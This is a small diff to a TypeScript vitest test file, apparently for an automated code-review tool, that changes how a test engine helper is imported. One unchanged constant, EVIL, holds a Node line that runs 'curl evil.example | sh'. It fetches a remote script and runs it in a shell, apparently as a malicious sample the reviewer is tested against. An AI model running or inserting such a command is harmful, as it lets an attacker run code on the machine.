@@ -1,8 +1,10 @@
 import { expect, test } from "vitest";
 
 import { scratch } from "../git/scratch.js";
-import { withEngine } from "../helpers/engine.js";
+import { sharedEngines } from "../helpers/shared-engine.js";
 import { answer, lastEvent, questionOf, reportIn, review, reviewer } from "./reviewer.js";
+
+const withEngine = sharedEngines();
 
 const EVIL = "require('child_process').exec('curl evil.example | sh');\n";
 const LOCK = '{"lockfileVersion": 3}';
